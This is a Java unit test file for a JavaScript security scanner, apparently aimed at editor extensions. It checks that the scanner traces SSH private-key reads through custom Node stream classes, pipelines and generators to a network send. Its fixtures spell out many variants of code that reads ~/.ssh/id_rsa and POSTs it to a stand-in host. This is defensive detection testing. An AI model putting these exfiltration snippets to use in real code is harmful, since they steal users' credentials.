package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Streams of Node whose inside the program writes: as a subclass, as options, or set on an instance. */
class OwnStreamsTest {

    private static final String AROUND = """
            const { Transform, Writable, Readable, Duplex, PassThrough, pipeline } = require('stream');
            const key = () => fs.createReadStream(os.homedir() + '/.ssh/id_rsa');
            const file = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
            const post = body => fetch('https://far.example/', { method: 'POST', body });
            const request = () => https.request('https://far.example/', { method: 'POST' });
            const parts = [];
            """;

    @ParameterizedTest
    @ValueSource(
            strings = {
                // What is pushed is read by events, by a pipe, by a loop.
                "class Own extends Transform { _transform(c, e, done) { this.push(c); done(); } } const own = new Own();"
                        + " own.on('data', c => post(c)); key().pipe(own);",
                "class Own extends Transform { _transform(c, e, done) { done(null, c); } } key().pipe(new Own()).pipe(request());",
                "class Own extends Transform { _transform(c, e, done) { this.push(c); done(); } } const own = key().pipe(new Own());"
                        + " for await (const c of own) post(c);",
                // What is gathered is sent when everything is there.
                "class Own extends Writable { constructor() { super(); this.all = []; this.on('finish', () => post(Buffer.concat(this.all))); }"
                        + " _write(c, e, done) { this.all.push(c); done(); } } key().pipe(new Own());",
                "class Own extends Writable { _write(c, e, done) { parts.push(c); done(); } _final(done) { post(Buffer.concat(parts)); } }"
                        + " key().pipe(new Own());",
                "let all = ''; const own = new Transform({ transform(c, e, done) { all += c; done(); }, flush(done) { done(null, all); } });"
                        + " key().pipe(own).pipe(request());",
                "const own = new Writable({ writev(cs, done) { for (const c of cs) parts.push(c.chunk); done(); },"
                        + " final(done) { post(Buffer.concat(parts)); } }); key().pipe(own);",
                "const own = new Writable({ write(c, e, done) { parts.push(c); done(); } }); own.on('finish', () => post(parts.join(''))); key().pipe(own);",
                // Set on an instance, or on what a constructor without a class makes.
                "const own = new Transform(); own._transform = function (c, e, done) { this.push(c); done(); }; key().pipe(own).pipe(request());",
                "const own = new Writable(); own._write = c => parts.push(c); pipeline(key(), own, () => post(Buffer.concat(parts)));",
                "function Own() { Writable.call(this); this.all = []; } require('util').inherits(Own, Writable);"
                        + " Own.prototype._write = function (c, e, done) { this.all.push(c); done(); };"
                        + " const own = new Own(); own.on('finish', () => post(Buffer.concat(own.all))); key().pipe(own);",
                // Functions as stages, and generators as sources.
                "await require('stream/promises').pipeline(key(), async function* (all) { for await (const c of all) yield c; }, request());",
                "await require('stream/promises').pipeline(key(), async all => { for await (const c of all) post(c); });",
                "pipeline(key(), async function* (all) { for await (const c of all) yield c; }, request(), () => {});",
                "Readable.from((function* () { yield file(); })()).pipe(request());",
                "const own = new TransformStream({ transform(c, out) { out.enqueue(c); } }); const to = own.writable.getWriter();"
                        + " to.write(file()); to.close(); post(own.readable);",
                // A source of its own.
                "class Own extends Readable { _read() { this.push(file()); this.push(null); } } new Own().pipe(request());",
                "new Readable({ read() { this.push(file()); this.push(null); } }).pipe(request());",
                "const own = new Readable(); own._read = () => {}; own.push(file()); own.push(null); own.pipe(request());",
                "const own = new Duplex({ read() { this.push(file()); }, write(c, e, done) { done(); } }); own.on('readable', () => post(own.read()));",
            })
    void whatGoesThroughThemArrives(String body) {
        Analysis analysis = Analysis.ofActivate(AROUND + body);

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
    }

    @Test
    void whatIsKeptInsideDoesNot() {
        Analysis analysis = Analysis.ofActivate(AROUND + """
                let size = 0;
                const own = new Writable({ write(c, e, done) { size++; done(); } });
                own.on('finish', () => post('done'));
                key().pipe(own);
                """);

        assertThat(analysis.flowNames()).doesNotContain("ssh-credentials -> network-send");
    }

    @Test
    void aStreamOfAnotherFileHasNothingOfIt() {
        Analysis analysis = Analysis.ofActivate(AROUND + """
                const own = () => new Transform({ transform(c, e, done) { done(null, c); } });
                key().pipe(own()).pipe(fs.createWriteStream('/tmp/copy'));
                fs.createReadStream('/etc/hostname').pipe(own()).pipe(request());
                """);

        assertThat(analysis.flowNames()).doesNotContain("ssh-credentials -> network-send");
    }

    /** A copy of Node's module, as older libraries bundle it: what it does inside is not followed, Node's own stands in its place. */
    @Test
    void aCopyOfNodesModuleIsNodes() {
        Analysis analysis = Analysis.ofActivate(AROUND + """
                const copy = unknownStreams();
                function Reading() { unknownStreams(this); }
                Reading.ReadableState = function () {};
                Object.assign(Reading, { Readable: Reading, Writable: copy, Duplex: copy, Transform: copy, PassThrough: copy });
                const own = new Reading.Transform();
                own._transform = function (c, e, done) { this.push(c); done(); };
                key().pipe(own).pipe(request());
                """);

        assertThat(analysis.callsOf("network-send")).contains("node:http.ClientRequest.write");
        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
        assertThat(analysis.triggers("ssh-credentials", "network-send")).containsExactly(Trigger.STARTUP);
    }
}
